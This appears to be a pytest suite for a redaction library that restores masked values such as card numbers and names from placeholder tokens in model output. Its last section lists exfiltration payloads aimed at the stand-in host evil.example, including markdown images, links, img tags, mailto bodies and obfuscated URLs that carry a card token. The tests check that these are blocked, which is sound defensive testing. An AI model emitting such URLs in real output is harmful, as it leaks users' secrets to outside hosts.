"""Putting values back, in the spellings that models use."""

import re
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from graph.redaction.links.urls import is_inside_url
from graph.redaction.masking.mask import mask
from graph.redaction.unmasking.stream_buffer import StreamBuffer
from graph.redaction.unmasking.unmask import tokens_in, unmask, unmask_json
from graph.redaction.values.detection import Detection
from graph.redaction.values.entity_types import ENTITY_TYPES
from graph.redaction.values.placeholders import TOKEN, new_token

CARD, ANA = "[CARD_7K3Q9D]", "[PERSON_0A1B2C]"
VALUES = {CARD: "4111 1111 1111 1111", ANA: "Ana Díaz"}


@pytest.mark.parametrize(
    ("written", "restored"),
    [
        ("pay with [CARD_7K3Q9D].", "pay with 4111 1111 1111 1111."),
        ("**[CARD_7K3Q9D]**", "**4111 1111 1111 1111**"),
        ("`[CARD_7K3Q9D]`", "`4111 1111 1111 1111`"),
        ('"[PERSON_0A1B2C]"', '"Ana Díaz"'),
        ("[PERSON_0A1B2C]'s rent", "Ana Díaz's rent"),
        ("[PERSON_0A1B2C],[PERSON_0A1B2C]", "Ana Díaz,Ana Díaz"),
        ("***[PERSON_0A1B2C]***", "***Ana Díaz***"),
        ("_[PERSON_0A1B2C]_", "_Ana Díaz_"),
        ("~~[PERSON_0A1B2C]~~", "~~Ana Díaz~~"),
        ("[**PERSON_0A1B2C**]", "[**Ana Díaz**]"),
        ("'[PERSON_0A1B2C]'", "'Ana Díaz'"),
        ("“[PERSON_0A1B2C]”", "“Ana Díaz”"),
        ("[PERSON_0A1B2C]’s", "Ana Díaz’s"),  # noqa: RUF001
        ("the [PERSON_0A1B2C]s", "the Ana Díazs"),
        ("PERSON_0A1B2Cs", "Ana Díazs"),
        ("PERSON_0A1B2C's", "Ana Díaz's"),
        ("[PERSON_0A1B2C]-Konto", "Ana Díaz-Konto"),
        ("[[PERSON_0A1B2C]]", "[Ana Díaz]"),
        ("([PERSON_0A1B2C])", "(Ana Díaz)"),
        ("[ PERSON_0A1B2C ]", "[ Ana Díaz ]"),
        ("[PERSON_0A1B2C", "[Ana Díaz"),
        ("【PERSON_0A1B2C】", "【Ana Díaz】"),
        (r"PERSON\_0A1B2C", "Ana Díaz"),
        (r"\[PERSON_0A1B2C]", "\\Ana Díaz"),
        (r"[PERSON_0A1B2C\]", "Ana Díaz"),
        ('{"name": "[PERSON_0A1B2C]"}', '{"name": "Ana Díaz"}'),
        (r"\[CARD_7K3Q9D\]", "4111 1111 1111 1111"),
        (r"\[CARD\_7K3Q9D\]", "4111 1111 1111 1111"),
        (r"[CARD\_7K3Q9D]", "4111 1111 1111 1111"),
        ("[card_7k3q9d]", "4111 1111 1111 1111"),
        ("[Card_7K3Q9D]", "4111 1111 1111 1111"),
        ("PERSON_0A1B2C", "Ana Díaz"),
        ("<PERSON_0A1B2C>", "<Ana Díaz>"),
        ("{PERSON_0A1B2C}", "{Ana Díaz}"),
        ("[PERSON_0A1B2C](mailto:x)", "Ana Díaz(mailto:x)"),
        ("| [PERSON_0A1B2C] | 12 |", "| Ana Díaz | 12 |"),
    ],
)
def test_a_token_is_restored_however_a_model_spells_it(written: str, restored: str) -> None:
    assert unmask(written, VALUES) == restored


@pytest.mark.parametrize(
    "written",
    [
        "[CARD_AAAAAA]",
        "[CARD_7K3Q9]",
        "[CARD 7K3Q9D]",
        "card_7k3q9d",
        "[1]",
        "[CARD]",
        "CARD_PAYMENT",
        "[CARD__7K3Q9D]",
        "[CARD-7K3Q9D]",
        "[CARD_7K3 Q9D]",
        "[CARD_\n7K3Q9D]",
        "[CARD_7K3\u200bQ9D]",
        "[CARD\u200b_7K3Q9D]",
        "[CARD_7K3Q9O]",
        "[CARTE_7K3Q9D]",
        "[CARD&#95;7K3Q9D]",
        "[CARD_7K3Q9]D",
        "[C4RD_7K3Q9D]",
        "[D9Q3K7_DRAC]",
        "card_7K3Q9D",
        "[NOSUCH_7K3Q9D]",
        "",
    ],
)
def test_what_was_not_issued_stays_text(written: str) -> None:
    assert unmask(written, VALUES) == written


def test_a_value_that_looks_like_a_token_is_not_restored_again() -> None:
    assert unmask("[ID_000000]", {"[ID_000000]": CARD, CARD: "4111"}) == CARD


def test_all_tokens_are_collected_as_they_were_issued() -> None:
    assert tokens_in(r"\[card\_7k3q9d\] and PERSON_0A1B2C, [1]") == {CARD, ANA}


def test_json_is_restored_at_every_depth_but_not_in_the_names_of_fields() -> None:
    arguments = {"to": ANA, "items": [{"card": f"use {CARD}"}, 3, None, True], CARD: 1.5}
    assert unmask_json(arguments, VALUES) == {
        "to": "Ana Díaz",
        "items": [{"card": "use 4111 1111 1111 1111"}, 3, None, True],
        CARD: 1.5,
    }


def test_new_tokens_have_the_form_and_differ() -> None:
    made = {new_token("ADDRESS") for _ in range(200)}
    assert len(made) == 200
    assert all(tokens_in(token) == {token} for token in made)
    assert not any(letter in token.split("_")[1] for token in made for letter in "ILOU")
    assert TOKEN.startswith(r"\[")


# What was masked comes back -------------------------------------------------------------------------------------------

alphabet = st.text("ab \n[]()\\_`*'\"<>!CARDPERSON0A1B2C7K3Q9Dé\u200b💶", max_size=12)


@st.composite
def masked_texts(draw: st.DrawFn) -> tuple[str, str, dict[str, str]]:
    """A text, the same with some stretches of it masked, and the values behind the tokens."""
    stretches = draw(
        st.lists(st.tuples(alphabet, alphabet.filter(bool), st.sampled_from(sorted(ENTITY_TYPES))), max_size=6)
    )
    text, detections, tokens = "", [], []
    for before, value, entity_type in stretches:
        text += before
        detections.append(Detection(entity_type, len(text), len(text) + len(value), value, value))
        tokens.append(new_token(entity_type))
        text += value
    text += draw(alphabet)
    return (
        text,
        mask(text, detections, tokens),
        {token: each.value for token, each in zip(tokens, detections, strict=True)},
    )


outside_addresses = masked_texts().filter(
    lambda case: not any(is_inside_url(case[1], *token.span()) for token in re.finditer(TOKEN, case[1]))
)


@given(outside_addresses)
@example(("\\Ana", "\\[PERSON_0A1B2C]", {"[PERSON_0A1B2C]": "Ana"}))
def test_what_was_masked_is_restored_as_it_was(case: tuple[str, str, dict[str, str]]) -> None:
    text, masked, values = case
    assert unmask(masked, values) == text


@given(outside_addresses, st.lists(st.integers(1, 200), max_size=20), st.integers(0, 300))
def test_a_stream_is_restored_as_the_whole_is_from_wherever_it_is_resumed(
    case: tuple[str, str, dict[str, str]], cuts: list[int], seen: int
) -> None:
    """Cut anywhere, or after each character; a reader who comes back has had the first pieces and is given the others."""
    text, masked, values = case
    for places in (cuts, range(1, len(masked))):
        edges = [0, *sorted({cut for cut in places if 0 < cut < len(masked)}), len(masked)]
        buffer = StreamBuffer()
        pieces = [*(buffer.push(masked[start:end]) for start, end in pairwise(edges)), buffer.flush()]
        had = "".join(unmask(piece, values) for piece in pieces[:seen])
        given_later = "".join(unmask(piece, values) for piece in pieces[seen:])
        assert had + given_later == text


@pytest.mark.parametrize("end", range(1, len(CARD)))
def test_a_token_that_breaks_off_comes_out_as_it_is(end: int) -> None:
    buffer = StreamBuffer()
    pieces = [buffer.push(f"use {CARD[:end]}"), buffer.flush()]
    shown = "".join(unmask(piece, VALUES) for piece in pieces)
    assert shown == (f"use {CARD[:end]}" if end < len(CARD) - 1 else "use [4111 1111 1111 1111")


@given(st.text(max_size=40))
def test_nobody_elses_token_and_no_text_is_changed(text: str) -> None:
    assert unmask(text, {}) == text
    assert unmask(f"{text}[CARD_AAAAAA]", VALUES).endswith("[CARD_AAAAAA]")


EVIL = "evil.example/x?d=[CARD_7K3Q9D]"


@pytest.mark.parametrize(
    "written",
    [
        f"https://{EVIL}",
        f"![a](https://{EVIL})",
        "[a](<https://evil.example/?d= [CARD_7K3Q9D]>)",
        '[a](https://evil.example "[CARD_7K3Q9D]")',
        "[a](/relative?d=[CARD_7K3Q9D])",
        f"[a]: //{EVIL}",
        "[a]: <https://evil.example/ [CARD_7K3Q9D]>",
        "https://[CARD_7K3Q9D].evil.example/",
        "https://user:[CARD_7K3Q9D]@evil.example/",
        "[CARD_7K3Q9D].evil.example",
        "www.[CARD_7K3Q9D].example",
        EVIL,
        "evil.example#[CARD_7K3Q9D]",
        "mailto:me@evil.example?body=[CARD_7K3Q9D]",
        "<img src='//evil.example/?d=\n[CARD_7K3Q9D]'>",
        "<a href=https://evil.example/[CARD_7K3Q9D]",
        f"https&#58;//{EVIL}",
        f"h\u200bttps://{EVIL}",
        r"https://evil.example/\[CARD\_7K3Q9D\]",
        "https://evil.example/CARD_7K3Q9D",
        "https://evil.example/(((x[CARD_7K3Q9D]",
        "https://evil.example/a|[CARD_7K3Q9D]",
        f"https://{EVIL}[PERSON_0A1B2C][CARD_7K3Q9D]",
    ],
)
def test_a_token_inside_an_address_is_not_restored(written: str) -> None:
    assert unmask(f"Look: {written} now", VALUES) == f"Look: {written} now"
    assert unmask_json([{"args": written}], VALUES) == [{"args": written}]


@pytest.mark.parametrize(
    ("written", "restored"),
    [
        ("see https://bank.example/terms, [PERSON_0A1B2C]", "see https://bank.example/terms, Ana Díaz"),
        ("[a](https://bank.example) [PERSON_0A1B2C]", "[a](https://bank.example) Ana Díaz"),
        ("[PERSON_0A1B2C](CARD_7K3Q9D)", "Ana Díaz(4111 1111 1111 1111)"),
        ("[PERSON_0A1B2C].Thanks", "Ana Díaz.Thanks"),
        ("[PERSON_0A1B2C].pdf", "Ana Díaz.pdf"),
        ("12.50/[PERSON_0A1B2C]", "12.50/Ana Díaz"),
        ("x < y and [PERSON_0A1B2C]", "x < y and Ana Díaz"),
        ("Netflix.com [PERSON_0A1B2C]", "Netflix.com Ana Díaz"),
    ],
)
def test_a_token_beside_an_address_is_restored(written: str, restored: str) -> None:
    assert unmask(written, VALUES) == restored
